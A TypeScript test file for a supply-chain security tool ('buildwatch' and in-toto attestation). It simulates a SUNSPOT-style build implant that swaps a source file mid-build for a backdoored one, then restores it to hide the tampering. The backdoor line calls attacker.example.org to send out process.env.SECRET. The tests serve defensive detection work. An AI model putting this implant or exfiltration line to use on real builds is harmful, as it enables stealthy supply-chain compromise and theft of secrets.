import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { register as registerAttest } from '../../src/cli/attest.js';
import { register as registerBuildwatch } from '../../src/cli/buildwatch.js';
import { readMetablockFile } from '../../src/supplychain/intoto/metablock.js';
import type { Link } from '../../src/supplychain/intoto/models.js';
import { writeKeyPair } from '../../src/supplychain/keys/keygen.js';
import { runCli } from './cli-driver.js';
import { tempDir } from './interop-helpers.js';

/**
 * SUNSPOT simulation. The build (a real node build script) marks that it started,
 * reads src/inventory.ts and "compiles" it to dist/app.js. A separate implant process
 * waits for the build to start, swaps src/inventory.ts for a backdoored version, waits
 * until the output exists, then puts the original back with its old mtime: before and
 * after the build, the tree is clean. So that a loaded machine cannot make the test
 * flaky, the build waits (at most 3 s) for dist/go before reading its source; the
 * implant creates it after the swap, tests without the implant create it beforehand.
 */

const BUILD = [
  "const fs = require('fs');",
  "fs.mkdirSync('dist', { recursive: true });",
  "fs.writeFileSync('dist/started', String(process.pid));",
  'const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);',
  'const start = Date.now();',
  "while (!fs.existsSync('dist/go') && Date.now() - start < 3000) sleep(5);",
  'sleep(50);',
  "const source = fs.readFileSync('src/inventory.ts', 'utf8');",
  "fs.writeFileSync('dist/app.js', '// compiled\\n' + source.replace(/export /g, ''));",
  'sleep(250);',
].join('\n');

const IMPLANT = [
  "const fs = require('fs');",
  "const path = require('path');",
  'const repo = process.argv[2];',
  "const target = path.join(repo, 'src', 'inventory.ts');",
  'const deadline = Date.now() + 15000;',
  'const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);',
  "while (!fs.existsSync(path.join(repo, 'dist', 'started'))) { if (Date.now() > deadline) process.exit(2); sleep(5); }",
  'const original = fs.readFileSync(target);',
  'const { atime, mtime } = fs.statSync(target);',
  "fs.writeFileSync(target, \"export function inventory() { fetch('https://attacker.example.org/' + process.env.SECRET); return 'clean'; }\\n\");",
  "fs.writeFileSync(path.join(repo, 'dist', 'go'), '');",
  "while (!fs.existsSync(path.join(repo, 'dist', 'app.js'))) { if (Date.now() > deadline) process.exit(3); sleep(5); }",
  'sleep(50);',
  'fs.writeFileSync(target, original);',
  'fs.utimesSync(target, atime, mtime);',
].join('\n');

function git(dir: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=secloop test', '-c', 'user.email=test@example.org', '-c', 'commit.gpgsign=false', ...args], { cwd: dir, encoding: 'utf8' }).trim();
}

function repository(): { dir: string; cleanup: () => void; implant: string } {
  const made = tempDir('secloop-sunspot-');
  const repo = path.join(made.dir, 'repo');
  mkdirSync(path.join(repo, 'src'), { recursive: true });
  writeFileSync(path.join(repo, 'src', 'inventory.ts'), "export function inventory() { return 'clean'; }\n");
  writeFileSync(path.join(repo, 'build.js'), BUILD);
  writeFileSync(path.join(repo, '.gitignore'), 'dist/\n*.link\nkey*\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-q', '-m', 'clean sources');
  const implant = path.join(made.dir, 'implant.js');
  writeFileSync(implant, IMPLANT);
  return { dir: repo, cleanup: made.cleanup, implant };
}

function startImplant(implant: string, repo: string): { child: ChildProcess; done: Promise<number | null> } {
  const child = spawn(process.execPath, [implant, repo], { stdio: 'ignore' });
  return { child, done: new Promise((resolve) => child.on('exit', (code) => resolve(code))) };
}

const BUILD_COMMAND = [process.execPath, 'build.js'];

test('SUNSPOT: buildwatch exits 3 and names the source swapped only while the build ran', async () => {
  const repo = repository();
  try {
    const implant = startImplant(repo.implant, repo.dir);
    const result = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--', ...BUILD_COMMAND]);
    assert.equal(await implant.done, 0, 'the implant ran to the end');
    assert.match(readFileSync(path.join(repo.dir, 'dist', 'app.js'), 'utf8'), /attacker\.example\.org/, 'the shipped output is backdoored');
    assert.equal(git(repo.dir, 'status', '--porcelain'), '', 'and the tree is clean afterwards');
    assert.equal(result.exitCode, 3, result.stdout + result.stderr);
    assert.match(result.stdout, /^FAIL: \d+ violation\(s\)/);
    assert.match(result.stdout, /\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z {2}src\/inventory\.ts {2}modified: content differed from the commit .*equal to the commit again at the end/);
  } finally {
    repo.cleanup();
  }
});

test('SUNSPOT: the same build without the implant passes', async () => {
  const repo = repository();
  try {
    mkdirSync(path.join(repo.dir, 'dist'));
    writeFileSync(path.join(repo.dir, 'dist', 'go'), '');
    const report = path.join(repo.dir, 'dist-report.json');
    const result = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--report', report, '--', ...BUILD_COMMAND]);
    assert.equal(result.exitCode, 0, result.stdout + result.stderr);
    assert.match(result.stdout, /^PASS: 3 tracked files in 2 source directories/);
    const json = JSON.parse(readFileSync(report, 'utf8'));
    assert.deepEqual(json.violations, []);
    assert.equal(json.returnValue, 0);
  } finally {
    repo.cleanup();
  }
});

test('SUNSPOT: an in-toto link of the same step cannot see the swap (materials and products hash the clean source)', async () => {
  const repo = repository();
  try {
    writeKeyPair(path.join(repo.dir, 'key'), { family: 'ed25519', format: 'securesystemslib' });
    const implant = startImplant(repo.implant, repo.dir);
    const result = await runCli(registerAttest, ['attest', 'run', '-n', 'build', '-k', 'key', '-m', 'src', '-p', 'src', 'dist/app.js', '--', ...BUILD_COMMAND], { cwd: repo.dir });
    assert.equal(await implant.done, 0);
    assert.equal(result.exitCode, 0, result.stderr);
    const file = readdirSync(repo.dir).find((name) => name.endsWith('.link'))!;
    const link = readMetablockFile(path.join(repo.dir, file)).signed as Link;
    const clean = execFileSync('sha256sum', ['src/inventory.ts'], { cwd: repo.dir, encoding: 'utf8' }).split(' ')[0];
    assert.equal(link.materials['src/inventory.ts']!.sha256, clean);
    assert.equal(link.products['src/inventory.ts']!.sha256, clean, 'before and after are identical: the link records a clean source');
    assert.match(readFileSync(path.join(repo.dir, 'dist', 'app.js'), 'utf8'), /attacker/, 'while the product carries the backdoor');
  } finally {
    repo.cleanup();
  }
});

test('buildwatch: a dirty tree stops the build (exit 3) unless --allow-dirty; new files and rewrites are named', async () => {
  const repo = repository();
  try {
    writeFileSync(path.join(repo.dir, 'src', 'inventory.ts'), '// edited\n');
    const dirty = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--', process.execPath, '-e', "require('fs').writeFileSync('ran', '')"]);
    assert.equal(dirty.exitCode, 3);
    assert.match(dirty.stdout, /the build was not run/);
    assert.match(dirty.stdout, /src\/inventory\.ts {2}dirty-before/);
    assert.throws(() => readFileSync(path.join(repo.dir, 'ran')));
    const allowed = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--allow-dirty', '--', process.execPath, '-e', '0']);
    assert.equal(allowed.exitCode, 0, allowed.stdout);
    git(repo.dir, 'checkout', '--', 'src/inventory.ts');

    const dropper = "const fs=require('fs');fs.writeFileSync('src/extra.ts','export const x = 1;\\n');fs.writeFileSync('src/tmp.ts','x');fs.unlinkSync('src/tmp.ts')";
    const dropped = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--', process.execPath, '-e', dropper]);
    assert.equal(dropped.exitCode, 3, dropped.stdout);
    assert.match(dropped.stdout, /src\/extra\.ts {2}new-file: new file beside the sources/);
    assert.match(dropped.stdout, /src\/tmp\.ts {2}new-file: file created beside the sources during the build and removed again/);
    git(repo.dir, 'clean', '-fdq', 'src');

    const rewrite = "const fs=require('fs');fs.writeFileSync('build.js', fs.readFileSync('build.js'))";
    const rewritten = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--', process.execPath, '-e', rewrite]);
    assert.equal(rewritten.exitCode, 3, rewritten.stdout);
    assert.match(rewritten.stdout, /build\.js {2}rewritten: written during the build/);
    const ignored = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--ignore', 'build.js', '--', process.execPath, '-e', rewrite]);
    assert.equal(ignored.exitCode, 0, ignored.stdout);

    const failing = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--', process.execPath, '-e', 'process.exit(5)']);
    assert.equal(failing.exitCode, 1);
    assert.equal((await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir])).exitCode, 2);
    assert.equal((await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--interval', '1', '--', 'true'])).exitCode, 2);
  } finally {
    repo.cleanup();
  }
});

test('buildwatch --report kept in the repository is its own file: the next run does not call it a stranger', async () => {
  const repo = repository();
  try {
    const report = path.join(repo.dir, 'buildwatch.json');
    const first = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--report', report, '--', process.execPath, '-e', '0']);
    assert.equal(first.exitCode, 0, first.stdout);
    assert.ok(readFileSync(report, 'utf8').includes('"violations": []'));
    const second = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--report', report, '--', process.execPath, '-e', '0']);
    assert.equal(second.exitCode, 0, second.stdout);
    // Any other untracked file beside the sources still stops the build.
    writeFileSync(path.join(repo.dir, 'notes.txt'), 'x');
    const stranger = await runCli(registerBuildwatch, ['buildwatch', '--repo', repo.dir, '--report', report, '--', process.execPath, '-e', '0']);
    assert.equal(stranger.exitCode, 3);
    assert.match(stranger.stdout, /notes\.txt {2}untracked-before/);
  } finally {
    repo.cleanup();
  }
});

test('attest provenance --watch: the implant means no provenance (exit 3); a clean build records the watch result', async () => {
  const repo = repository();
  try {
    writeKeyPair(path.join(repo.dir, 'key'), { family: 'ed25519', format: 'securesystemslib' });
    const args = ['attest', 'provenance', '--watch', '-k', 'key', '-a', 'dist/app.js', '--builder-id', 'https://ci.example.org/b', '-o', 'dist/prov.jsonl', '--', ...BUILD_COMMAND];
    const implant = startImplant(repo.implant, repo.dir);
    const attacked = await runCli(registerAttest, args, { cwd: repo.dir });
    assert.equal(await implant.done, 0);
    assert.equal(attacked.exitCode, 3, attacked.stdout + attacked.stderr);
    assert.match(attacked.stdout, /src\/inventory\.ts {2}modified/);
    assert.throws(() => readFileSync(path.join(repo.dir, 'dist', 'prov.jsonl')));

    const clean = await runCli(registerAttest, args, { cwd: repo.dir });
    assert.equal(clean.exitCode, 0, clean.stdout + clean.stderr);
    const envelope = JSON.parse(readFileSync(path.join(repo.dir, 'dist', 'prov.jsonl'), 'utf8'));
    const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8'));
    const [byproduct] = statement.predicate.runDetails.byproducts;
    assert.equal(byproduct.name, 'secloop-buildwatch');
    const evidence = JSON.parse(Buffer.from(byproduct.content, 'base64').toString('utf8'));
    assert.deepEqual(evidence.violations, []);
    assert.equal(evidence.trackedFiles, 3);
  } finally {
    repo.cleanup();
  }
});
